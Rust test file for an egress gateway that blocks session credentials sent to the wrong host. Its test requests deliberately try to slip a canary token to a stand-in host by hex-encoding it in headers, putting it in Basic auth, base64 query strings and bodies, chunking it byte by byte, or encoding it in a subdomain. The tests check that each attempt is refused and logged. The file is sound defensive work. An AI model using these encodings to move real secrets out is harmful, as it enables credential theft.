//! Credentials of the session in requests to places that they are not for, through relay and gateway.

use std::io::Write;
use std::thread;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use crate::harness::Harness;
use crate::inspection::{LOCAL, authority, curl, open, server};

const FILE: &str = "ghs_canary0file0b5e7f1c93d24";
const BROKERED: &str = "sk-canary-brokered-86ad24c3";

/// Two hosts whose requests are read; `own.example` has the brokered credential and is the file's only place.
fn start(port: u16) -> Harness {
    let mut harness = Harness::start(&[("own.example", LOCAL), ("rules.example", LOCAL)]);
    let entry = |host: &str, broker: Option<&str>| json!({ "host": host, "port": port, "allow_private": ["127.0.0.0/8"], "rules": ["* /**"], "broker": broker });
    let policy = json!({
        "allow": [entry("own.example", Some("key")), entry("rules.example", None)],
        "authorities": authority().certificate,
        "credentials": { "token": { "credential": "github", "hosts": ["own.example"] } },
    });
    assert_eq!(harness.gateway.command(json!({ "policy": policy })), None);
    let file = json!({ "name": "token", "content": STANDARD.encode(FILE) });
    assert_eq!(harness.gateway.command(json!({ "secrets": [file] })), None);
    let key = json!({
        "name": "key", "host": "own.example", "placement": "bearer", "value": STANDARD.encode(BROKERED)
    });
    assert_eq!(harness.gateway.command(json!({ "broker": [key] })), None);
    harness
}

fn leaks(harness: &Harness) -> Vec<Value> {
    harness.gateway.events().into_iter().filter(|event| event["reason"] == "leak").collect()
}

#[test]
fn a_credential_for_another_host_is_refused_wherever_it_stands_in_both_versions_of_http() {
    for (protocol, option) in [("http/1.1", "--http1.1"), ("h2", "--http2")] {
        let (port, seen) = server("rules.example", &[protocol]);
        let harness = start(port);
        let url = |rest: &str| format!("https://rules.example:{port}/{rest}");
        let field = format!("X-Note: {}", hex::encode_upper(FILE));
        let basic = format!("Authorization: Basic {}", STANDARD.encode(format!("git:{FILE}")));
        let body = format!("{{\"content\": \"{}\"}}", URL_SAFE_NO_PAD.encode(format!("so: {FILE}.")));
        let asked: &[(&str, &[&str])] = &[
            ("github", &[&url(FILE)]),
            ("github", &[&url(&format!("?q={}", STANDARD.encode(FILE).replace('=', "%3D")))]),
            ("github", &["-H", &field, &url("")]),
            ("github", &["-H", &basic, &url("")]),
            ("github", &["--data-binary", &body, &url("")]),
            ("github", &["--data-binary", &body, "-H", "Transfer-Encoding: chunked", &url("")]),
            ("key", &["--data-binary", BROKERED, &url("")]),
        ];
        for (credential, arguments) in asked {
            let answer = curl(&harness, &[&[option], *arguments].concat());
            assert!(answer.contains("403 HTTP/"), "{arguments:?}: {answer}");
            assert!(answer.contains(&format!("\"credential\":\"{credential}\"")), "{arguments:?}: {answer}");
        }
        harness.gateway.wait_for(|event| event["reason"] == "leak" && event["credential"] == "key");
        let told = leaks(&harness);
        assert_eq!(told.len(), asked.len(), "{told:#?}");
        assert!(told.iter().all(|event| event["host"] == "rules.example" && event["allowed"] == false), "{told:#?}");
        // What is for no place of a credential passes, and so does one at its own host.
        let plain = curl(&harness, &[option, "--data-binary", "ghs_canary0file of another", &url("")]);
        assert!(plain.starts_with("ok200"), "{plain}");
        let seen = seen.lock().unwrap();
        assert!(seen.iter().all(|line| !line.to_lowercase().contains("canary0file0b")), "{seen:#?}");
        let events = format!("{:?}", harness.gateway.events()).to_lowercase();
        let encoded = hex::encode(FILE);
        assert!(!events.contains(FILE) && !events.contains(BROKERED) && !events.contains(&encoded), "{events}");
    }
}

#[test]
fn a_credential_passes_to_its_own_host() {
    let (port, seen) = server("own.example", &["http/1.1"]);
    let harness = start(port);
    let field = format!("X-Note: {FILE}");
    let answer = curl(&harness, &["-H", &field, "--data-binary", FILE, &format!("https://own.example:{port}/")]);
    assert!(answer.starts_with("ok200"), "{answer}");
    let seen = seen.lock().unwrap();
    assert!(seen[0].contains(&format!("x-note={FILE}")) && seen[0].contains(&format!("body={FILE}")), "{seen:?}");
    assert!(leaks(&harness).is_empty());
}

#[test]
fn a_body_that_comes_byte_by_byte_ends_before_the_value_is_whole() {
    let (port, seen) = server("rules.example", &["http/1.1"]);
    let harness = start(port);
    let mut stream = open(&harness, port);
    let head = format!("POST / HTTP/1.1\r\nHost: rules.example:{port}\r\nTransfer-Encoding: chunked\r\n\r\n");
    stream.write_all(head.as_bytes()).unwrap();
    for byte in FILE.bytes() {
        // After the refusal nobody reads.
        if stream.write_all(format!("1\r\n{}\r\n", char::from(byte)).as_bytes()).is_err() {
            break;
        }
        let _ = stream.flush();
        thread::sleep(Duration::from_millis(5));
    }
    let event = harness.gateway.wait_for(|event| event["reason"] == "leak");
    assert_eq!((&event["credential"], &event["host"]), (&json!("github"), &json!("rules.example")));
    // The server of the test keeps whole requests: this one never became one.
    assert!(seen.lock().unwrap().is_empty(), "{:?}", seen.lock().unwrap());
}

#[test]
fn plain_http_is_read_too_and_so_are_names_of_hosts() {
    let (port, requests) = crate::harness::http();
    let mut harness = Harness::start(&[("plain.example", LOCAL)]);
    let entry = |host: &str| json!({ "host": host, "port": port, "allow_private": ["127.0.0.0/8"] });
    let policy = json!({
        "allow": [entry("plain.example"), entry("*.plain.example")],
        "credentials": { "token": { "credential": "github" } },
    });
    assert_eq!(harness.gateway.command(json!({ "policy": policy })), None);
    let file = json!({ "name": "token", "content": STANDARD.encode(FILE) });
    assert_eq!(harness.gateway.command(json!({ "secrets": [file] })), None);
    let host = format!("plain.example:{port}");
    for (head, body) in [("", FILE), ("Authorization: Bearer ghs_canary0file0b5e7f1c93d24\r\n", "")] {
        let request = format!(
            "POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\n{head}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        let answer = harness.ask(&request);
        assert!(answer.starts_with("HTTP/1.1 403 ") && answer.contains("\"credential\":\"github\""), "{answer}");
    }
    let name = format!("{}.plain.example:{port}", FILE.replace('_', "-").to_uppercase());
    assert!(harness.tunnel(&name).unwrap_err().contains("resolve"), "a name that carries nothing");
    let name = format!("{}.plain.example:{port}", hex::encode(FILE));
    assert!(harness.tunnel(&name).unwrap_err().contains("credential `github` in its host name"));
    let name = harness.gateway.decision("(withheld)", "leak");
    assert!(name["detail"].as_str().unwrap().contains("`github`"), "{name}");
    harness.gateway.wait_for(|event| event["detail"].as_str().is_some_and(|detail| detail.contains("in its body")));
    let got = requests.lock().unwrap();
    assert!(got.iter().all(|request| !request.contains("canary0file0b")), "{got:?}");
    let events = format!("{:?}", harness.gateway.events());
    assert!(!events.contains(FILE) && !events.contains(&hex::encode(FILE)), "{events}");
    assert_eq!(leaks(&harness).len(), 3);
}

#[test]
fn a_gateway_that_was_started_again_still_looks_for_the_files_that_are_there() {
    let (port, _) = server("rules.example", &["http/1.1"]);
    let mut harness = start(port);
    harness.kill_gateway();
    harness.restart_gateway();
    let policy = json!({
        "allow": [{ "host": "rules.example", "port": port, "allow_private": ["127.0.0.0/8"], "rules": ["* /**"] }],
        "authorities": authority().certificate,
        "credentials": { "token": { "credential": "github" } },
    });
    assert_eq!(harness.gateway.command(json!({ "policy": policy })), None);
    let answer = curl(&harness, &["--data-binary", FILE, &format!("https://rules.example:{port}/")]);
    assert!(answer.contains("403 HTTP/") && answer.contains("\"credential\":\"github\""), "{answer}");
}
